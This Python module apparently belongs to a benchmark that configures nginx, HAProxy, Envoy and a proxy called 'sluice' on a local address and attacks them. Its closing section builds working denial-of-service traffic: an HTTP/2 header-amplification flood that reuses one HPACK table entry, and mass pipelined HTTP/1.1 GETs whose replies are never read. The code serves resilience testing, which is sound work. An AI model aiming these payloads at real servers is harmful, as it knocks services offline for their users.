"""The attacked proxies: how each is configured, and what attackers send.

A function per proxy: Setup -> text of its file. Each serves the same five things, on a port for HTTP/1.1 and on one for
HTTP/2 without TLS; everything else has its default value, except for the number of workers and of connections, and what
a comment names.
"""
import json, struct
from dataclasses import dataclass
from typing import Callable

from configurations import nginx_head
from machine import LOCAL

SMALL = ' '.join(['hello world'] * 10) + '\n'          # Of /small, from a healthy origin: 120 bytes.
BODY_PIECE, PIECES = 'b' * 1024, 64
BODY = BODY_PIECE * PIECES                             # Of /body, in the configuration.
PAGE = 'p' * 12288                                     # Of /page, whose upstream is down.
PAGE_FILE, BODY_FILE = 'page.txt', 'body.txt'
DOWN = 1                                               # Nothing listens on this port.
SETTINGS, HEADERS, END_HEADERS = 4, 1, 4
HAPROXY_BUFFER = 2 * len(BODY)                         # Otherwise it accepts no such body.


@dataclass(frozen=True)
class Setup:
    ports: tuple                                       # Of the proxy: HTTP/1.1, HTTP/2.
    origin: int                                        # Has /small.
    silent: int                                        # Receives /hold and never responds.
    connections: int                                   # The limit of connections.
    workers: int
    has_body: bool                                     # /body is served.


FILES = {PAGE_FILE: PAGE, BODY_FILE: BODY}             # Next to each configuration.


def nginx(setup):
    # A word of its configuration is limited to 4 KiB.
    users = ('client_body', 'proxy', 'fastcgi', 'uwsgi', 'scgi')
    folders = ' '.join(f'{user}_temp_path proxy_{user};' for user in users)
    head = nginx_head(setup.ports[0], setup.connections, setup.workers).replace('stderr;', 'stderr crit;')
    body = f'location = /body {{ set $piece "{BODY_PIECE}"; return 200 "{"$piece" * PIECES}"; }}'
    return head + f'''http {{
  access_log off; {folders}
  upstream origin {{ server {LOCAL}:{setup.origin}; keepalive 32; }}
  proxy_http_version 1.1; proxy_set_header Connection "";
  server {{
    listen {LOCAL}:{setup.ports[0]} backlog=4096; listen {LOCAL}:{setup.ports[1]} backlog=4096 http2;
    root .; error_page 502 503 504 /{PAGE_FILE};
    location / {{ proxy_pass http://origin; }}
    location = /hold {{ proxy_pass http://{LOCAL}:{setup.silent}; }}
    location = /page {{ proxy_pass http://{LOCAL}:{DOWN}; }}
    location = /{PAGE_FILE} {{ internal; }}
    {body if setup.has_body else ''}
  }}
}}
'''


def haproxy(setup):
    # Without retries: a refused connect is retried after a second, and pages would be few. Its timeouts have no
    # defaults.
    body = f'  http-request return status 200 content-type text/plain file {BODY_FILE} if {{ path /body }}\n'
    return (f'global\n  nbthread {setup.workers}\n  maxconn {setup.connections // 2 - 50}\n'
            + f'  tune.bufsize {HAPROXY_BUFFER}\n' * setup.has_body +
            f'defaults\n  mode http\n  timeout connect 5s\n  timeout client 60s\n  timeout server 60s\n'
            f'frontend all\n  bind {LOCAL}:{setup.ports[0]}\n  bind {LOCAL}:{setup.ports[1]} proto h2\n'
            + body * setup.has_body +
            f'  use_backend silent if {{ path /hold }}\n  use_backend down if {{ path /page }}\n  default_backend origin\n'
            f'backend origin\n  server origin {LOCAL}:{setup.origin}\n'
            f'backend silent\n  server silent {LOCAL}:{setup.silent}\n'
            f'backend down\n  retries 0\n  http-error status 503 content-type text/plain file {PAGE_FILE}\n'
            f'  server down {LOCAL}:{DOWN}\n')


def envoy(setup):
    def address(port): return {'socket_address': {'address': LOCAL, 'port_value': port}}
    def typed(what, **fields): return {'@type': 'type.googleapis.com/envoy.extensions.filters.' + what, **fields}
    def cluster(name, port):
        return {'name': name, 'connect_timeout': '5s', 'load_assignment': {'cluster_name': name, 'endpoints': [
            {'lb_endpoints': [{'endpoint': {'address': address(port)}}]}]}}
    def route(where, name): return {'match': where, 'route': {'cluster': name}}
    body = {'match': {'path': '/body'}, 'direct_response': {'status': 200, 'body': {'filename': BODY_FILE}}}
    routes = [body] * setup.has_body + [route({'path': '/hold'}, 'silent'), route({'path': '/page'}, 'down'),
                                       route({'prefix': '/'}, 'origin')]
    pages = {'mappers': [{
        'filter': {'status_code_filter': {'comparison': {'op': 'GE', 'value': {
            'default_value': 500, 'runtime_key': 'pages'}}}},
        'body_format_override': {'text_format_source': {'filename': PAGE_FILE}}}]}
    manager = {'name': 'envoy.filters.network.http_connection_manager', 'typed_config': typed(
        'network.http_connection_manager.v3.HttpConnectionManager', stat_prefix='all', local_reply_config=pages,
        http_filters=[{'name': 'envoy.filters.http.router', 'typed_config': typed('http.router.v3.Router')}],
        route_config={'max_direct_response_body_size_bytes': len(BODY),
                      'virtual_hosts': [{'name': 'all', 'domains': ['*'], 'routes': routes}]})}
    return json.dumps({'static_resources': {
        'listeners': [{'name': str(port), 'address': address(port), 'filter_chains': [{'filters': [manager]}]}
                      for port in setup.ports],
        'clusters': [cluster('origin', setup.origin), cluster('silent', setup.silent), cluster('down', DOWN)]}})


def sluice(setup):
    body = {'match': {'path': {'exact': '/body'}}, 'respond': {'status': 200, 'body': BODY}}
    routes = [body] * setup.has_body + [{'match': {'path': {'exact': '/hold'}}, 'forward': 'silent'},
                                       {'match': {'path': {'exact': '/page'}}, 'forward': 'down'},
                                       {'forward': 'origin'}]
    http = {'routes': routes, 'errors': [{'status': '5xx', 'body': PAGE}]}
    upstreams = {'origin': setup.origin, 'silent': setup.silent, 'down': DOWN}
    return json.dumps({
        'workers': setup.workers,
        'listeners': [{'name': f'h{version}', 'address': f'{LOCAL}:{port}', 'max_connections': setup.connections, 'http': http}
                      for version, port in enumerate(setup.ports, 1)],
        'upstreams': [{'name': name, 'endpoints': [f'{LOCAL}:{port}']} for name, port in upstreams.items()]})


CONFIGURATIONS = {'nginx': nginx, 'haproxy': haproxy, 'envoy': envoy, 'sluice': sluice}


def healthy_origin(ports, connections):
    """nginx's file: /small, in HTTP/1.1 and in HTTP/2, so that it can also be measured directly."""
    users = ('client_body', 'proxy', 'fastcgi', 'uwsgi', 'scgi')
    folders = ' '.join(f'{user}_temp_path origin_{user};' for user in users)
    return nginx_head(ports[0], connections) + f'''http {{
  access_log off; keepalive_requests 1000000; {folders}
  server {{
    listen {LOCAL}:{ports[0]} backlog=4096; listen {LOCAL}:{ports[1]} backlog=4096 http2;
    location = /small {{ return 200 "{SMALL}"; }}
  }}
}}
'''


# ---- Attacks

def http2_frame(kind, flags=0, stream=0, payload=b''):
    return struct.pack('>IBI', len(payload) << 8 | kind, flags, stream) + payload


def amplified_heads(streams=100, value_bytes=4032, uses=7):
    """Heads of POST requests, each of which refers `uses` times to one entry of the HPACK table; the bodies are never
    sent."""
    authority, path = LOCAL.encode(), b'/hold'
    start = b'\x83\x86\x01' + bytes([len(authority)]) + authority + b'\x04' + bytes([len(path)]) + path
    rest = value_bytes - 127                           # RFC 7541 section 5.1; two more bytes suffice.
    entry = b'\x40\x01x\x7f' + bytes([rest & 127 | 128, rest >> 7]) + b'v' * value_bytes
    reference = bytes([0x80 | 62])                     # The newest entry.
    blocks = [start + (entry + reference * (uses - 1) if number == 0 else reference * uses) for number in range(streams)]
    return b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + http2_frame(SETTINGS) + b''.join(
        http2_frame(HEADERS, END_HEADERS, 2 * number + 1, block) for number, block in enumerate(blocks))


def pipelined(path, count=1000): return f'GET {path} HTTP/1.1\r\nHost: {LOCAL}\r\n\r\n'.encode() * count


@dataclass(frozen=True)
class Attack:
    title: str
    opening: Callable                                  # -> the data that each connection sends.
    version: int                                       # Of HTTP: 1 or 2.
    counter: str                                       # Of sluice: its requests, at least one for each connection.


ATTACKS = {
    'heads': Attack('HTTP/2: 100 POSTs without their bodies, whose heads of 28 KiB refer to one HPACK entry',
                    amplified_heads, 2, 'http2_streams_total'),
    'body': Attack('HTTP/1.1: 1,000 pipelined GETs for a configured body of 64 KiB, nothing read',
                   lambda: pipelined('/body'), 1, 'http1_messages_total'),
    'page': Attack('HTTP/1.1: 1,000 pipelined GETs for an error page of 12 KiB, nothing read',
                   lambda: pipelined('/page'), 1, 'http1_messages_total')}
